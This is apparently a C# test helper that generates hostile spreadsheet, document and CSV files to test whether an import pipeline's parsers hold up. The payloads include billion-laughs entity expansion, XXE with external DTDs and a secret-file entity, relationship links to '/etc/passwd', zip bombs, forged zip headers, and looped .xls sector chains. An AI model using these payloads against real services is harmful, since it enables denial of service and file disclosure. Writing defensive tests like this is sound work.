using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Kpi.Jobs.Tests.Workbooks;
using static Kpi.Jobs.Tests.Workbooks.XlsWorkbook;

namespace Kpi.Jobs.Tests.Inbox;

/// <summary>Files that mean harm in more ways than the corpus holds, made when they are needed: some are small, and unpack to what nobody would keep.</summary>
/// <param name="site">An address that nobody may ask.</param>
/// <param name="secret">The address of a file that nobody may read.</param>
internal sealed class HostileShapes(string site, string secret)
{
    private const int Huge = 300_000_000;
    private const int Many = 1_000_000;

    private const string OdsBefore = """<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="S">""";
    private const string OdsAfter = "</table:table></office:spreadsheet></office:body></office:document-content>";
    private const string Word = """<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>""";

    // Each entity is ten of the one before it.
    private static readonly string Laughs = "[<!ENTITY a0 \"ha\">" + string.Concat(Enumerable.Range(1, 12).Select(i => $"<!ENTITY a{i} \"{string.Concat(Enumerable.Repeat($"&a{i - 1};", 10))}\">")) + "]";

    private string Outside => $"SYSTEM \"{site}/a.dtd\" [<!ENTITY a12 SYSTEM \"{secret}\"><!ENTITY % p SYSTEM \"{site}/p.dtd\"> %p;]";

    /// <summary>Every kind by its name, which ends as such a file would.</summary>
    public IEnumerable<(string Name, Func<byte[]> Make)> All() =>
    [
        // Entities, of the file and of elsewhere.
        ("entities-sheet.xlsx", () => Entities(Laughs)), ("outside-sheet.xlsx", () => Entities(Outside)),
        ("entities-content.ods", () => OdsEntities(Laughs)), ("outside-content.ods", () => OdsEntities(Outside)),
        ("entities-document.docx", () => Docx($"<!DOCTYPE w:document {Laughs}>{Word}<w:p><w:r><w:t>&a12;</w:t></w:r></w:p></w:body></w:document>")),
        ("outside-document.docx", () => Docx($"<!DOCTYPE w:document {Outside}>{Word}<w:p><w:r><w:t>&a12;</w:t></w:r></w:p></w:body></w:document>")),
        ("entities.fods", () => Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><!DOCTYPE office:document {Laughs}><office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\">&a12;</office:document>")),
        ("outside-links.xlsx", () => new XlsxPackage().Part(XlsxPackage.WorkbookLinks, XlsxPackage.Links(("rId1", "worksheet", $"{site}/s.xml"), ("rId2", "styles", secret), ("rId3", "sharedStrings", "../../../../../etc/passwd"))).ToBytes()),

        // What unpacks to far more than it is, or says that it is something else.
        ("bomb-sheet.xlsx", () => Bomb("<sheetData>", "<row/>", Huge / 6)),
        ("bomb-text.xlsx", () => Bomb("<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>", "aaaaaaaaaa", Huge / 10)),
        ("bomb-comment.xlsx", () => Bomb("<!--", "aaaaaaaaaa", Huge / 10)),
        ("bomb-attribute.xlsx", () => Bomb("<sheetData><row r=\"", "1111111111", Huge / 10)),
        ("bomb-strings.xlsx", () => Zip(Stretched("xl/sharedStrings.xml", $"<sst xmlns=\"{XlsxPackage.Spreadsheet}\">", "<si><t>a</t></si>", Huge / 17), new XlsxPackage().ToBytes())),
        ("bomb-styles.xlsx", () => Zip(Stretched("xl/styles.xml", $"<styleSheet xmlns=\"{XlsxPackage.Spreadsheet}\"><fonts>", "<font><name val=\"a\"/></font>", Huge / 29), new XlsxPackage().ToBytes())),
        ("bomb-content.ods", () => Ods(Stretched("content.xml", OdsBefore, "<table:table-row/>", Huge / 18))),
        ("bomb-document.docx", () => Zip(Stretched("word/document.xml", Word, "<w:p/>", Huge / 6))),
        ("size-lie-small.xlsx", () => Resized(1)), ("size-lie-large.xlsx", () => Resized(0x7FFFFFFF)), ("size-lie-packed.xlsx", () => Resized(0x7FFFFFF0, at: 20)),
        ("overlapping.xlsx", () => Overlapping()),
        ("nested.xlsx", () => Enumerable.Range(0, 20).Aggregate(new XlsxPackage().ToBytes(), (inner, _) => new XlsxPackage().Part("xl/embeddings/a.xlsx", inner).ToBytes())),
        ("many-parts.xlsx", () => Enumerable.Range(0, 60_000).Aggregate(new XlsxPackage(), (package, i) => package.Part($"x/{i}", [])).ToBytes()),

        // Sizes that nobody has.
        ("dimensions.xlsx", () => new XlsxPackage().Sheet("<dimension ref=\"A1:XFD1048576\"/><cols><col min=\"1\" max=\"16384\" width=\"9\"/></cols><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData>" + $"<mergeCells>{string.Concat(Enumerable.Range(1, 100_000).Select(i => $"<mergeCell ref=\"A{i}:XFD1048576\"/>"))}</mergeCells>").ToBytes()),
        ("repeats-columns.ods", () => Ods(Stretched("content.xml", OdsBefore + "<table:table-row table:number-rows-repeated=\"1048576\"><table:table-cell table:number-columns-repeated=\"16384\" office:value-type=\"float\" office:value=\"1\"/></table:table-row>" + OdsAfter, "", 0))),
        ("repeats-rows.ods", () => Ods(Stretched("content.xml", OdsBefore, "<table:table-row table:number-rows-repeated=\"100000\"><table:table-cell office:value-type=\"float\" office:value=\"1\"/></table:table-row>", 1_000, OdsAfter))),
        ("repeats-formulas.ods", () => Ods(Stretched("content.xml", OdsBefore, "<table:table-row><table:table-cell table:number-columns-repeated=\"16384\" table:formula=\"of:=SUM([.A1:.XFD1048576])\" office:value-type=\"float\" office:value=\"1\"/></table:table-row>", 110, OdsAfter))),
        ("spans.html", () => Encoding.UTF8.GetBytes("<table>" + string.Concat(Enumerable.Repeat("<tr><td colspan=\"999999999\" rowspan=\"999999999\">1</td></tr>", 10_000)))),
        ("columns.csv", () => Encoding.UTF8.GetBytes(new string(',', 15_000_000))),
        ("lines.csv", () => Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("1.1.1.,Số nhiệm vụ,Nhiệm vụ,1\n", 400_000)))),

        // Depth.
        ("deep-sheet.xlsx", () => Bomb("", "<a>", 10_000_000)),
        ("deep-content.ods", () => Ods(Stretched("content.xml", OdsBefore, "<table:table-row-group>", 2_000_000))),
        ("deep-document.docx", () => Zip(Stretched("word/document.xml", Word, "<w:tbl><w:tr><w:tc>", 2_000_000))),
        ("deep.html", () => Encoding.UTF8.GetBytes("<html>" + string.Concat(Enumerable.Repeat("<table><tr><td>", 600_000)))),
        ("deep-formula.xlsx", () => new XlsxPackage().Cells($"<c r=\"A1\"><f>{new string('(', 30_000)}1{new string(')', 30_000)}</f><v>2</v></c>").ToBytes()),

        // Numbers of things.
        ("million-strings.xlsx", () => new XlsxPackage().SharedStrings(string.Concat(Enumerable.Range(0, Many).Select(i => $"<si><t>Chuỗi {i}</t></si>"))).Rows(string.Concat(Enumerable.Range(1, Many / 5).Select(r => $"<row r=\"{r}\">{string.Concat(Enumerable.Range(0, 5).Select(c => $"<c r=\"{"ABCDE"[c]}{r}\" t=\"s\"><v>{(r * 5) + c - 5}</v></c>"))}</row>"))).ToBytes()),
        ("million-rich-strings.xlsx", () => Zip(Stretched("xl/sharedStrings.xml", $"<sst xmlns=\"{XlsxPackage.Spreadsheet}\">", "<si><r><rPr><rFont val=\".VnTime\"/></rPr><t>Sè</t></r><r><t>a</t></r></si>", Many, "</sst>"), new XlsxPackage().ToBytes())),
        ("million-inline-strings.xlsx", () => Bomb("<sheetData>", i => $"<row><c t=\"inlineStr\"><is><t>Chuỗi riêng số {i}</t></is></c><c><v>{i}</v></c></row>", Many, "</sheetData></worksheet>")),
        ("million-formulas.xlsx", () => Bomb("<sheetData>", i => $"<row><c><f>SUM(B{i + 1}:B{i + 9})</f><v>{i}</v></c></row>", Many, "</sheetData></worksheet>")),
        ("million-names.xlsx", () => Bomb("", i => $"<a{i}/>", Many)),
        ("million-strings.xls", () => ManyTexts()),
        ("shared-formulas.xls", () => SharedFormulas()),

        // Compound files that bite their tail.
        ("loop-chain.xls", () => Looped(3)), ("loop-first.xls", () => Looped(0)), ("loop-directory.xls", () => LoopedDirectory()),
        ("table-anywhere.xls", () => Pointed(76)), ("lists-anywhere.xls", () => Pointed(68)),
    ];

    private static byte[] Entities(string dtd) =>
        new XlsxPackage().Part(XlsxPackage.SheetPart, $"<!DOCTYPE worksheet {dtd}>" + XlsxPackage.Root("worksheet", "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&a12;</t></is></c></row></sheetData>")).ToBytes();

    private static byte[] OdsEntities(string dtd) =>
        Ods(Stretched("content.xml", $"<!DOCTYPE office:document-content {dtd}>{OdsBefore}<table:table-row><table:table-cell office:value-type=\"string\"><text:p>&a12;</text:p></table:table-cell></table:table-row>{OdsAfter}", "", 0));

    private static byte[] Docx(string document) => Zip(Stretched("word/document.xml", document, "", 0));

    private static byte[] Bomb(string beginning, string piece, int times) => Bomb(beginning, _ => piece, times);

    private static byte[] Bomb(string beginning, Func<int, string> piece, int times, string end = "") => new XlsxPackage()
        .Without(XlsxPackage.SheetPart)
        .ToBytes(Enumerable.Range(0, times).Select(piece).Prepend($"<worksheet xmlns=\"{XlsxPackage.Spreadsheet}\">{beginning}").Append(end));

    private static (string Name, Action<StreamWriter> Write) Stretched(string name, string beginning, string piece, int times, string end = "") => (name, writer =>
    {
        writer.Write(beginning);
        for (var i = 0; i < times; i++) writer.Write(piece);
        writer.Write(end);
    }
    );

    private static byte[] Ods((string Name, Action<StreamWriter> Write) content) => Zip(content, Zip(Stretched("META-INF/manifest.xml", """<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>""", "", 0)));

    /// <summary>A package with one part more, or another one in its place.</summary>
    private static byte[] Zip((string Name, Action<StreamWriter> Write) part, byte[]? package = null)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            if (package is not null)
            {
                using var others = new ZipArchive(new MemoryStream(package), ZipArchiveMode.Read);
                foreach (var other in others.Entries.Where(e => !string.Equals(e.FullName, part.Name, StringComparison.Ordinal)))
                {
                    using var from = other.Open();
                    using var to = zip.CreateEntry(other.FullName).Open();
                    from.CopyTo(to);
                }
            }
            using var writer = new StreamWriter(zip.CreateEntry(part.Name, CompressionLevel.Fastest).Open(), new UTF8Encoding(false));
            part.Write(writer);
        }
        return bytes.ToArray();
    }

    private static byte[] Resized(int size, int at = 24)
    {
        var bytes = new XlsxPackage().Rows("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>").ToBytes();
        foreach (var entry in Directory(bytes)) BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(entry + at), size);
        return bytes;
    }

    private static byte[] Overlapping()
    {
        var bytes = new XlsxPackage().ToBytes();
        foreach (var entry in Directory(bytes)) bytes.AsSpan(entry + 42, 4).Clear();
        return bytes;
    }

    private static List<int> Directory(byte[] zip) => [.. Enumerable.Range(0, zip.Length - 46).Where(at => zip.AsSpan(at).StartsWith("PK\x01\x02"u8))];

    private static byte[] ManyTexts()
    {
        const int InOne = 900;
        var book = new XlsWorkbook();
        for (var first = 0; first < Many; first += InOne)
        {
            byte[] texts = [.. Enumerable.Range(first, Math.Min(InOne, Many - first)).SelectMany(i => Narrow($"{i}"))];
            if (first == 0) book.Global(0xFC, [.. Four(Many), .. Four(Many), .. texts]);
            else book.Global(0x3C, texts);
        }
        return book.Sheet().ToBytes();
    }

    // Each has a range of its own, as wide as the sheet.
    private static byte[] SharedFormulas()
    {
        byte[] sum = [0x2D, 1, 0, 0xFF, 0xFF, 0, 0xC0, 0, 0xC0, 0x19, 0x10, 0, 0];
        var book = new XlsWorkbook().Sheet();
        for (var i = 0; i < 200_000; i++)
        {
            var (row, column) = (i / 200, i % 200);
            book.Cell(0x06, row, column, [.. Eight(i), .. new byte[6], .. Two(5), 0x01, .. Two(row), .. Two(column)]).Record(0x4BC, [.. Two(0), .. Two(0xFFFF), 0, 0xFF, 0, 1, .. Two(sum.Length), .. sum]);
        }
        return book.ToBytes();
    }

    private static byte[] Looped(int sector)
    {
        var bytes = new XlsWorkbook().Sheet().Record(0x1234, new byte[5_000]).ToBytes();
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(CompoundWriter.TableOffset((bytes.Length / CompoundWriter.Sector) - 3) + (sector * 4)), 0);
        return bytes;
    }

    private static byte[] LoopedDirectory()
    {
        var bytes = new XlsWorkbook().Sheet().ToBytes();
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(bytes.AsSpan().IndexOf(Encoding.Unicode.GetBytes("Root Entry")) + 128 + 68), 1);
        return bytes;
    }

    private static byte[] Pointed(int offset)
    {
        var bytes = new XlsWorkbook().Sheet().ToBytes();
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(offset), int.MaxValue);
        return bytes;
    }
}
